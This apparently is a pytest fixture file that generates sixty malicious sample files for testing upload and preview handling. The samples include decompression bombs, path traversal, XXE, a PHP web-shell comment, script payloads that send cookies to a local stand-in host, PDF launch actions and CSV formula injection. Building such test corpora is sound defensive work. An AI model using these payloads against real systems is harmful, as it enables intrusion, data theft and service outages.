"""Sixty files that somebody might send to do harm. All are made here; none harms anything by itself.

Each is a name, the name that the file bears, its content, and what may be shown of it: "pages", "text" or "nothing".
"""

import io
import struct
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass
from functools import cache

import pytest

Content = Callable[[], bytes]


@dataclass(frozen=True)
class Hostile:
    """One of the sixty."""

    name: str
    file: str
    make: Content
    shown: str

    @property
    def content(self) -> bytes:
        return made(self.make)


@cache
def made(make: Content) -> bytes:
    return make()


def pytest_generate_tests(metafunc: pytest.Metafunc) -> None:
    if "hostile" in metafunc.fixturenames:
        metafunc.parametrize("hostile", CASES, ids=lambda case: case.name)
    if "hostile_pdf" in metafunc.fixturenames:
        pdfs = [case for case in CASES if case.name.startswith("PDF")]
        metafunc.parametrize("hostile_pdf", pdfs, ids=lambda case: case.name)


# ── packed files ──


def packed(members: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in members.items():
            archive.writestr(name, content)
    return out.getvalue()


TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


def word(document: bytes, **others: bytes) -> bytes:
    return packed({"[Content_Types].xml": TYPES, "word/document.xml": document} | others)


def zip_bomb() -> bytes:
    return word(b"\0" * 2**26)


def nested_zip() -> bytes:
    inner = b"\0" * 2**22
    for depth in range(8):
        inner = packed({f"{depth}.zip": inner})
    return inner


def many_members() -> bytes:
    return packed({"[Content_Types].xml": TYPES} | {f"word/{n}.xml": b"" for n in range(5000)})


def lying_sizes() -> bytes:
    """The directory at the end says that a member is 4 GB."""
    content = word(b"<w/>")
    at = content.index(b"PK\x01\x02")
    return content[: at + 24] + b"\xfe\xff\xff\xff" + content[at + 28 :]


def members_with_paths() -> bytes:
    return packed(
        {"../../../../etc/cron.d/x": b"* * * * * root id", "C:\\Windows\\x.exe": b"MZ", "/etc/passwd": b""}
    )


def member_as_link() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        link = zipfile.ZipInfo("passwd")
        link.create_system, link.external_attr = 3, 0o120777 << 16
        archive.writestr(link, "/etc/passwd")
    return out.getvalue()


XXE = b'<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd"><!ENTITY y SYSTEM "http://127.0.0.1:9/x">]><d>&x;&y;</d>'
LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%s">' % (98 + n, b"&%c;" % (97 + n) * 10) for n in range(9))
    + b"]><l>&j;</l>"
)
TEMPLATE = b'<Relationships><Relationship Type="attachedTemplate" Target="http://127.0.0.1:9/t.dotm" TargetMode="External"/></Relationships>'


def odt_with_script() -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as archive:
        archive.writestr("mimetype", "application/vnd.oasis.opendocument.text")
        archive.writestr(
            "content.xml",
            '<office:scripts><script:event-listener script:event-name="dom:load"/></office:scripts>',
        )
        archive.writestr("Basic/Standard/Module1.xml", "Sub Main : Shell(&quot;id&quot;) : End Sub")
    return out.getvalue()


def gzip_bomb() -> bytes:
    packer = zlib.compressobj(9, zlib.DEFLATED, 31)
    return b"".join(packer.compress(b"\0" * 2**20) for _ in range(64)) + packer.flush()


def old_excel_with_macros() -> bytes:
    return (
        bytes.fromhex("d0cf11e0a1b11ae1")
        + b"\0" * 504
        + "_VBA_PROJECT_CUR".encode("utf-16-le")
        + b"Auto_Open" * 50
    )


# ── pictures ──


def chunk(kind: bytes, content: bytes, spoilt: int = 0) -> bytes:
    return (
        struct.pack(">I", len(content))
        + kind
        + content
        + struct.pack(">I", zlib.crc32(kind + content) ^ spoilt)
    )


def png(
    width: int = 4, height: int = 4, pixels: bytes | None = None, *others: bytes, spoilt: int = 0
) -> bytes:
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    lines = zlib.compress(b"\0" * (width + 1) * height if pixels is None else pixels, 1)
    return (
        b"\x89PNG\r\n\x1a\n"
        + chunk(b"IHDR", header, spoilt)
        + b"".join(others)
        + chunk(b"IDAT", lines)
        + chunk(b"IEND", b"")
    )


def picture(form: str = "JPEG", size: tuple[int, int] = (64, 48), **how: object) -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.radial_gradient("L").resize(size).convert("RGB").save(out, form, **how)
    return out.getvalue()


def huge_png() -> bytes:
    packer = zlib.compressobj(1)
    lines = b"".join(packer.compress(b"\0" * 30_001 * 100) for _ in range(300)) + packer.flush()
    header = struct.pack(">IIBBBBB", 30_000, 30_000, 8, 0, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", lines) + chunk(b"IEND", b"")


def png_with_text_bomb() -> bytes:
    return png(4, 4, None, chunk(b"zTXt", b"Comment\0\0" + zlib.compress(b"A" * 2**27)))


def png_with_too_many_pixels() -> bytes:
    return png(4, 4, b"\0" * 2**27)


def jpeg_with_php() -> bytes:
    return picture(comment=b"<?php system($_GET['c']); ?>")


def jpeg_with_looping_exif() -> bytes:
    tiff = b"Exif\0\0II*\0\x08\0\0\0" + b"\x01\0" + b"\x69\x87\x04\0\x01\0\0\0\x08\0\0\0" + b"\x08\0\0\0"
    plain = picture()
    return plain[:2] + b"\xff\xe1" + struct.pack(">H", len(tiff) + 2) + tiff + plain[2:]


def jpeg_that_says_it_is_huge() -> bytes:
    plain = picture()
    at = plain.index(b"\xff\xc0")
    return plain[: at + 5] + struct.pack(">HH", 65_500, 65_500) + plain[at + 9 :]


FRAME = b"\x2c\0\0\0\0\1\0\1\0\0\2\2\x44\1\0"


def gif_with_a_million_frames() -> bytes:
    return b"GIF89a\1\0\1\0\x80\0\0\0\0\0\xff\xff\xff" + FRAME * 1_000_000 + b";"


def gif_that_is_a_script() -> bytes:
    return b"GIF89a/*" + b"\0" * 7 + FRAME + b"*/=1;alert(document.cookie);//"


def gif_that_says_it_is_huge() -> bytes:
    return b"GIF89a\xff\xff\xff\xff\x80\0\0\0\0\0\xff\xff\xff" + FRAME + b";"


def webp(kind: bytes, content: bytes) -> bytes:
    return (
        b"RIFF"
        + struct.pack("<I", len(content) + 12)
        + b"WEBP"
        + kind
        + struct.pack("<I", len(content))
        + content
    )


def bmp_that_says_it_is_huge() -> bytes:
    return (
        b"BM"
        + struct.pack("<IHHI", 60, 0, 0, 54)
        + struct.pack("<IiiHHIIiiII", 40, 2**30, 2**30, 1, 24, 0, 0, 0, 0, 0, 0)
    )


SVG = b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"><script>fetch("http://127.0.0.1:9")</script></svg>'


# ── PDF ──


def pdf(*objects: bytes, trailer: bytes = b"", page: bytes = b"") -> bytes:
    """A document of one page; `objects` are numbered from 4 on."""
    bodies = [
        b"<< /Type /Catalog /Pages 2 0 R " + trailer + b" >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] " + page + b" >>",
        *objects,
    ]
    return numbered(bodies)


def numbered(bodies: list[bytes]) -> bytes:
    out, places = b"%PDF-1.7\n", []
    parts = [out]
    length = len(out)
    for number, body in enumerate(bodies, 1):
        places.append(length)
        part = b"%d 0 obj\n%s\nendobj\n" % (number, body)
        parts.append(part)
        length += len(part)
    table = b"xref\n0 %d\n0000000000 65535 f \n" % (len(bodies) + 1)
    table += b"".join(b"%010d 00000 n \n" % place for place in places)
    end = b"trailer << /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(bodies) + 1, length)
    return b"".join(parts) + table + end


def stream(content: bytes, head: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(content), head, content)


def pdf_of_10000_pages() -> bytes:
    pages = [b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] >>"] * 10_000
    kids = b" ".join(b"%d 0 R" % (3 + n) for n in range(10_000))
    return numbered(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 10000 /Kids [" + kids + b"] >>",
            *pages,
        ]
    )


def pdf_with_looping_pages() -> bytes:
    return numbered(
        [
            b"<< /Type /Catalog /Pages 2 0 R >>",
            b"<< /Type /Pages /Count 9 /Kids [2 0 R 2 0 R] /Parent 2 0 R >>",
        ]
    )


def pdf_with_looping_xref() -> bytes:
    plain = pdf()
    at = plain.index(b"xref\n")
    return plain.replace(b"/Root 1 0 R", b"/Root 1 0 R /Prev %d" % at)


def pdf_that_draws_itself() -> bytes:
    form = stream(
        b"/F Do " * 1000,
        b"/Type /XObject /Subtype /Form /BBox [0 0 200 200] /Resources << /XObject << /F 4 0 R >> >>",
    )
    return pdf(form, stream(b"/F Do"), page=b"/Contents 5 0 R /Resources << /XObject << /F 4 0 R >> >>")


def pdf_of_brackets() -> bytes:
    return pdf(b"[" * 200_000 + b"]" * 200_000, page=b"/Contents 4 0 R")


def pdf_with_stream_bomb() -> bytes:
    thrice = zlib.compress(zlib.compress(zlib.compress(b"0 0 m 200 200 l S\n" * 2**23, 9), 9), 9)
    return pdf(stream(thrice, b"/Filter [/FlateDecode /FlateDecode /FlateDecode]"), page=b"/Contents 4 0 R")


def pdf_with_huge_picture() -> bytes:
    image = stream(
        zlib.compress(b"\0" * 2**20),
        b"/Type /XObject /Subtype /Image /Width 60000 /Height 60000 /BitsPerComponent 8 /ColorSpace /DeviceRGB /Filter /FlateDecode",
    )
    return pdf(
        image,
        stream(b"200 0 0 200 0 0 cm /I Do"),
        page=b"/Contents 5 0 R /Resources << /XObject << /I 4 0 R >> >>",
    )


def pdf_with_file() -> bytes:
    spec = b"<< /Type /Filespec /F (run.exe) /EF << /F 4 0 R >> >>"
    return pdf(stream(b"MZ"), spec, trailer=b"/Names << /EmbeddedFiles << /Names [(run.exe) 5 0 R] >> >>")


SCRIPT = b"/OpenAction << /S /JavaScript /JS (app.launchURL('http://127.0.0.1:9'); while(true){}) >>"
LAUNCH = b"/OpenAction << /S /Launch /F (/bin/sh) /Win << /F (cmd.exe) /P (/c calc) >> >>"
AWAY = b"/OpenAction << /S /SubmitForm /F << /FS /URL /F (http://127.0.0.1:9/x) >> >> /AA << /O << /S /GoToR /F (//127.0.0.1/x.pdf) >> >>"


# ── others ──

EICAR = b"X5O!P%@AP[4\\PZX54(P^)7CC)7}$" + b"EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
FORMULAS = b"=cmd|' /C calc'!A0,@SUM(1+1)*cmd|' /C calc'!A0\n+HYPERLINK(\"http://127.0.0.1:9\")\n"
TERMINAL = b"\x1b]0;owned\x07\x1b[2J\x1b[31mHello"
LINK = (
    bytes.fromhex("4c0000000114020000000000c000000000000046") + b"\0" * 56 + b"c:\\windows\\system32\\cmd.exe"
)
TURNED = "Справка\u202egnp.exe \u2066\u200b<b>жирно</b>\u2069 {{ 7|add:7 }} {% load x %}".encode()
HTML = b"<!doctype html><script>fetch('http://127.0.0.1:9/'+document.cookie)</script><img src=x onerror=alert(1)>"


def always(content: bytes) -> Content:
    return lambda: content


NOTE = always("Он звонил 3 ноября.".encode())

CASES = [
    # packed files
    Hostile("zip bomb as a Word document", "справка.docx", zip_bomb, "nothing"),
    Hostile("zip in zip in zip", "photos.zip", nested_zip, "nothing"),
    Hostile("5,000 members", "letter.docx", many_members, "nothing"),
    Hostile("a member that says it is 4 GB", "letter.docx", lying_sizes, "nothing"),
    Hostile("members named after system files", "a.zip", members_with_paths, "nothing"),
    Hostile("a member that is a link", "a.zip", member_as_link, "nothing"),
    Hostile("XXE in a Word document", "a.docx", lambda: word(XXE), "nothing"),
    Hostile("a billion laughs in a Word document", "a.docx", lambda: word(LAUGHS), "nothing"),
    Hostile(
        "a Word document with a far template",
        "a.docx",
        lambda: word(b"<w/>", **{"word/_rels/settings.xml.rels": TEMPLATE}),
        "nothing",
    ),
    Hostile(
        "a Word document with macros",
        "a.docm",
        lambda: word(b"<w/>", **{"word/vbaProject.bin": b"Auto_Open"}),
        "nothing",
    ),
    Hostile("a Word document broken off", "a.docx", lambda: word(b"<w/>" * 999)[:200], "nothing"),
    Hostile("an ODT with a script", "a.odt", odt_with_script, "nothing"),
    Hostile("an old Excel table with macros", "a.xls", old_excel_with_macros, "nothing"),
    Hostile("gzip bomb", "a.gz", gzip_bomb, "nothing"),
    Hostile("RTF with an object", "a.rtf", always(rb"{\rtf1{\object\objemb{\*\objdata 0105}}}"), "nothing"),
    # pictures
    Hostile("PNG of 30,000 by 30,000", "a.png", huge_png, "nothing"),
    Hostile("PNG with a wrong sum", "a.png", lambda: png(spoilt=1), "nothing"),
    Hostile("PNG that says it is 2 billion wide", "a.png", lambda: png(2**31 - 1, 2**31 - 1, b""), "nothing"),
    Hostile("PNG with a text bomb", "a.png", png_with_text_bomb, "nothing"),
    Hostile("PNG with more pixels than it says", "a.png", png_with_too_many_pixels, "pages"),
    Hostile("JPEG broken off", "a.jpg", lambda: picture()[:300], "nothing"),
    Hostile("JPEG with PHP", "a.jpg", jpeg_with_php, "pages"),
    Hostile("JPEG with looping metadata", "a.jpg", jpeg_with_looping_exif, "pages"),
    Hostile("JPEG that says it is 65,500 by 65,500", "a.jpg", jpeg_that_says_it_is_huge, "nothing"),
    Hostile("JPEG and ZIP in one", "a.jpg", lambda: picture() + packed({"a.jsp": b"<% x %>"}), "pages"),
    Hostile("GIF with a million frames", "a.gif", gif_with_a_million_frames, "pages"),
    Hostile("GIF and JavaScript in one", "a.gif", gif_that_is_a_script, "pages"),
    Hostile("GIF that says it is 65,535 by 65,535", "a.gif", gif_that_says_it_is_huge, "nothing"),
    Hostile(
        "WebP of garbage, lossy", "a.webp", lambda: webp(b"VP8 ", b"\x9d\x01\x2a" + b"\xff" * 999), "nothing"
    ),
    Hostile("WebP of garbage, lossless", "a.webp", lambda: webp(b"VP8L", b"\x2f" + b"\xff" * 999), "nothing"),
    Hostile("TIFF", "a.tif", lambda: picture("TIFF"), "nothing"),
    Hostile("ICO", "a.ico", lambda: picture("ICO"), "nothing"),
    Hostile("BMP that says it is huge", "a.bmp", bmp_that_says_it_is_huge, "nothing"),
    Hostile("HEIC of garbage", "a.heic", always(b"\0\0\0\x18ftypheic" + b"\xff" * 4000), "nothing"),
    Hostile("SVG with a script", "a.svg", always(SVG), "nothing"),
    Hostile("SVG named PNG", "a.png", always(b"\n  " + SVG[21:]), "nothing"),
    Hostile("PostScript", "a.eps", always(b"%!PS-Adobe-3.0\n(%pipe%id) (r) file"), "nothing"),
    # PDF
    Hostile("PDF with JavaScript", "a.pdf", lambda: pdf(trailer=SCRIPT), "pages"),
    Hostile("PDF that starts a program", "a.pdf", lambda: pdf(trailer=LAUNCH), "pages"),
    Hostile("PDF that calls out", "a.pdf", lambda: pdf(trailer=AWAY), "pages"),
    Hostile("PDF with a program in it", "a.pdf", pdf_with_file, "pages"),
    Hostile("PDF of 10,000 pages", "a.pdf", pdf_of_10000_pages, "nothing"),
    Hostile("PDF whose pages hold themselves", "a.pdf", pdf_with_looping_pages, "nothing"),
    Hostile("PDF whose table leads to itself", "a.pdf", pdf_with_looping_xref, "pages"),
    Hostile("PDF that draws itself", "a.pdf", pdf_that_draws_itself, "any"),
    Hostile("PDF of brackets", "a.pdf", pdf_of_brackets, "pages"),
    Hostile("PDF with a stream bomb", "a.pdf", pdf_with_stream_bomb, "any"),
    Hostile("PDF with a huge picture", "a.pdf", pdf_with_huge_picture, "pages"),
    Hostile("PDF and ZIP in one", "a.pdf", lambda: pdf() + packed({"a.exe": b"MZ"}), "pages"),
    # others
    Hostile("HTML with a script", "a.html", always(HTML), "nothing"),
    Hostile("the test virus of the makers of virus scanners", "eicar.com", always(EICAR), "text"),
    Hostile("a program for Windows", "a.jpg.exe", always(b"MZ\x90\0" + b"\0" * 60), "nothing"),
    Hostile("a shortcut of Windows", "a.lnk", always(LINK), "nothing"),
    Hostile("a font", "a.ttf", always(b"\0\1\0\0\0\x0c" + b"\xff" * 400), "nothing"),
    Hostile("formulas", "a.csv", always(FORMULAS), "text"),
    Hostile("orders to a terminal", "a.txt", always(TERMINAL), "nothing"),
    Hostile("an empty file", "a.jpg", always(b""), "nothing"),
    # names
    Hostile("a name that climbs, with a zero byte", "../../../etc/passwd\0.png", NOTE, "text"),
    Hostile("a name that is a device, and turns the line", "CON\u202egnp.exe", always(TURNED), "text"),
    Hostile("a name of 4,000 characters and a line break", "а" * 4000 + '\r\nX: y"; <b>', NOTE, "text"),
]
"""Sixty."""
